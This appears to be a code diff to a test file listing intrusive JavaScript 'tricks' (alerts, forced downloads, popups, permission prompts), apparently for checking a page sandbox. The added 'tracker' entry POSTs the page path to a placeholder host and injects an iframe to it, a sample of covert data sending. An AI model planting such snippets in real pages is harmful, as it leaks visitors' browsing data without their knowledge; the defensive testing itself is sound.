@@ -19,6 +19,11 @@ TRICKS = {
     "dialog": 'alert("Your session will end in five minutes.");',
     "download": 'location.href = "/download/report.csv";',
     "popup": 'window.open("/help", "_blank");',
+    # The host does not exist: a page that is let through to it learns nothing.
+    "tracker": """
+        fetch("https://tracker.invalid/seen", {method: "POST", body: location.pathname}).catch(() => {});
+        document.body.append(Object.assign(document.createElement("iframe"), {src: "https://tracker.invalid/"}));
+    """,
     "permission": "Notification.requestPermission(); navigator.geolocation.getCurrentPosition(() => {});",
 }
 
